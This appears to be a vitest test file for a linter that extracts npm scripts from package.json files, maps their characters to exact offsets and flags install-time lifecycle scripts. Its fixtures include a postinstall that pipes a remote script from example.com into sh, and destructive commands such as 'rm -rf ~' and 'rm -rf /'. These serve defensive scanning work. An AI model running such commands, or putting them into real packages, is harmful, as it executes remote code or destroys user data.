import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { packageJson } from '../../../src/lint/sources/package-json.js';
import { LineIndex } from '../../../src/lint/source-text.js';
import { at } from '../../helpers/lint-source.js';

const fixture = `{
  "name": "left-pad-plus",
  "version": "1.0.0",
  "scripts": {
    "build": "tsc -p . && cp -r assets dist/",
    "test": "vitest run",
    "postinstall": "node scripts/setup.js || curl -fsSL https://example.com/i.sh | sh",
    "clean": "rm -rf dist \\"build cache\\" && echo caf\\u00e9 \\ud83d\\ude00 \\\\o/ && rm -f x",
    "release": "npm run build && npm publish"
  },
  "dependencies": { "left-pad": "^1.3.0" }
}
`;

describe('package-json: which files', () => {
  it('matches package.json anywhere outside node_modules', () => {
    expect(packageJson.matches('package.json', '')).toBe(true);
    expect(packageJson.matches('packages/app/package.json', '')).toBe(true);
    expect(packageJson.matches('node_modules/left-pad/package.json', '')).toBe(false);
    expect(packageJson.matches('a/node_modules/b/package.json', '')).toBe(false);
    expect(packageJson.matches('package.json.bak', '')).toBe(false);
    expect(packageJson.matches('my-package.json', '')).toBe(false);
  });
});

describe('package-json: scripts', () => {
  it('gives one snippet per script, run by sh on the host in the package directory', () => {
    const r = packageJson.extract(fixture, 'package.json');
    expect(r.findings).toEqual([]);
    expect(r.snippets.map((s) => [s.origin, s.shell, s.where, s.cwd])).toEqual([
      ['scripts.build', 'sh', 'host', '.'],
      ['scripts.test', 'sh', 'host', '.'],
      ['scripts.postinstall', 'sh', 'host', '.'],
      ['scripts.clean', 'sh', 'host', '.'],
      ['scripts.release', 'sh', 'host', '.'],
    ]);
    const build = r.snippets[0]!;
    expect(build.text).toBe('tsc -p . && cp -r assets dist/');
    expect(at(fixture, build, 'cp')).toEqual({ line: 5, column: 27 });
  });

  it('decodes JSON escapes and maps every character after them exactly (\\", \\\\, \\u00e9, surrogate pairs)', () => {
    const r = packageJson.extract(fixture, 'package.json');
    const clean = r.snippets.find((s) => s.origin === 'scripts.clean')!;
    expect(clean.text).toBe('rm -rf dist "build cache" && echo café 😀 \\o/ && rm -f x');
    expect(at(fixture, clean, '"build')).toEqual({ line: 8, column: 27 });
    expect(at(fixture, clean, 'é')).toEqual({ line: 8, column: 54 });
    expect(at(fixture, clean, '😀')).toEqual({ line: 8, column: 61 });
    expect(at(fixture, clean, '\\o/')).toEqual({ line: 8, column: 74 });
    expect(at(fixture, clean, 'rm -f')).toEqual({ line: 8, column: 82 });
    // The snippet ends at the closing quote.
    expect(new LineIndex(fixture).position(clean.offsets[clean.text.length]!)).toEqual({ line: 8, column: 89 });
  });

  it('decodes \\n into a newline mapped to its backslash, so a script can hold two commands', () => {
    const file = '{"scripts":{"x":"cd /\\nrm -rf *"}}';
    const s = packageJson.extract(file, 'package.json').snippets[0]!;
    expect(s.text).toBe('cd /\nrm -rf *');
    expect(s.offsets[4]).toBe(file.indexOf('\\n'));
    expect(at(file, s, 'rm')).toEqual({ line: 1, column: 24 });
  });

  it('marks the scripts npm install runs as lifecycle, and no others', () => {
    const names = ['preunpack', 'preinstall', 'install', 'postinstall', 'prepublish', 'preprepare', 'prepare', 'postprepare', 'dependencies'];
    const others = ['build', 'test', 'start', 'prepublishOnly', 'prepack', 'postpack', 'publish', 'preuninstall', 'pretest'];
    const file = JSON.stringify({ scripts: Object.fromEntries([...names, ...others].map((n) => [n, `echo ${n}`])) }, null, 2);
    const r = packageJson.extract(file, 'package.json');
    const lifecycle = r.snippets.filter((s) => s.lifecycle === true).map((s) => s.origin);
    expect(lifecycle).toEqual(names.map((n) => `scripts.${n}`));
    expect(r.snippets.filter((s) => s.lifecycle === undefined)).toHaveLength(others.length);
  });

  it('reads the last of duplicate keys, as JSON.parse and npm do', () => {
    const file = '{"scripts":{"postinstall":"echo hi","postinstall":"rm -rf ~"},"scripts":{"build":"tsc"}}';
    const r = packageJson.extract(file, 'package.json');
    expect(r.snippets.map((s) => [s.origin, s.text])).toEqual([['scripts.build', 'tsc']]);
    const inner = '{"scripts":{"postinstall":"echo hi","postinstall":"rm -rf ~"}}';
    const s = packageJson.extract(inner, 'package.json').snippets;
    expect(s.map((x) => x.text)).toEqual(['rm -rf ~']);
    expect(s[0]!.offsets[0]).toBe(inner.indexOf('rm'));
  });

  it('skips script values that are not strings (npm removes them) and says nothing when scripts is absent or not an object', () => {
    const r = packageJson.extract('{"scripts":{"a":1,"b":null,"c":["rm"],"d":{"x":"y"},"e":true,"f":"ls"}}', 'package.json');
    expect(r.snippets.map((s) => s.origin)).toEqual(['scripts.f']);
    expect(r.findings).toEqual([]);
    for (const file of ['{}', '{"name":"x"}', '{"scripts":"rm -rf /"}', '{"scripts":["rm -rf /"]}', '{"scripts":null}']) {
      expect(packageJson.extract(file, 'package.json')).toEqual({ snippets: [], findings: [] });
    }
  });
});

describe('package-json: unreadable files', () => {
  const finding = (file: string) => {
    const r = packageJson.extract(file, 'package.json');
    expect(r.snippets).toEqual([]);
    expect(r.findings).toHaveLength(1);
    const f = r.findings[0]!;
    expect(f.rule).toBe('lint/unreadable-file');
    expect(f.level).toBe('ask');
    return { ...new LineIndex(file).position(f.start), message: f.message };
  };

  it('reports a syntax error where it is', () => {
    expect(finding('{ "scripts": { "build": "tsc" \n')).toMatchObject({ line: 2, column: 1 });
    expect(finding('{\n  "scripts": {\n    "a": "x"\n    "b": "y"\n  }\n}\n')).toMatchObject({ line: 4, column: 5 });
  });

  it('reports what YAML reads but npm (JSON.parse) refuses: comments, trailing commas, single quotes', () => {
    expect(finding('{\n  "scripts": {\n    "a": "x",\n  }\n}\n')).toMatchObject({ line: 4, column: 3 });
    expect(finding('{\n  # setup\n  "scripts": {"a": "x"}\n}\n')).toMatchObject({ line: 2, column: 3 });
    expect(finding("{'scripts': {'a': 'x'}}").message).toContain('JSON');
  });

  it('reports a top level that is not an object, and an empty file', () => {
    expect(finding('["rm -rf /"]')).toMatchObject({ line: 1, column: 1 });
    expect(finding('"rm -rf /"').message).toContain('not an object');
    expect(finding('').message).toContain('JSON');
  });

  it('reads a file with a byte order mark, as npm does', () => {
    const file = '\ufeff{"scripts":{"a":"rm -rf x"}}';
    const s = packageJson.extract(file, 'package.json').snippets[0]!;
    expect(s.text).toBe('rm -rf x');
    expect(s.offsets[0]).toBe(file.indexOf('rm'));
  });
});

describe('package-json: never throws', () => {
  const check = (text: string) => {
    const r = packageJson.extract(text, 'package.json');
    for (const s of r.snippets) {
      expect(s.offsets.length).toBe(s.text.length + 1);
      for (const o of s.offsets) expect(o >= 0 && o <= text.length).toBe(true);
    }
    for (const f of r.findings) expect(f.start >= 0 && f.start <= f.end && f.end <= text.length).toBe(true);
  };

  it('on random text and random JSON', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('{', '}', '[', ']', '"', '\\', ':', ',', 'u', '0', 'e', 'n', ' ', '\n', '#', "'") }), check), {
      numRuns: 500,
    });
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.oneof(fc.string(), fc.integer(), fc.constant(null))), fc.boolean(), (scripts, pretty) =>
        check(JSON.stringify({ scripts }, null, pretty ? 2 : undefined)),
      ),
      { numRuns: 300 },
    );
  });

  it('maps every decoded character of random script strings back to the file exactly', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (script) => {
        const file = JSON.stringify({ scripts: { x: script } }, null, 2).replace(
          /[\u007f-\uffff]/g,
          (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'),
        );
        const s = packageJson.extract(file, 'package.json').snippets[0]!;
        expect(s.text).toBe(script);
        for (let i = 0; i < s.text.length; i++) {
          const o = s.offsets[i]!;
          // Each character maps to itself in the file, or to the backslash of the escape that wrote it.
          expect(file[o] === s.text[i] || file[o] === '\\').toBe(true);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('on random mutations of a real-shaped package.json', () => {
    fc.assert(
      fc.property(fc.nat(), fc.nat(), fc.string({ maxLength: 4 }), (a, b, ins) => {
        const i = a % (fixture.length + 1);
        check(fixture.slice(0, i) + ins + fixture.slice(Math.min(fixture.length, i + (b % 5))));
      }),
      { numRuns: 500 },
    );
  });
});
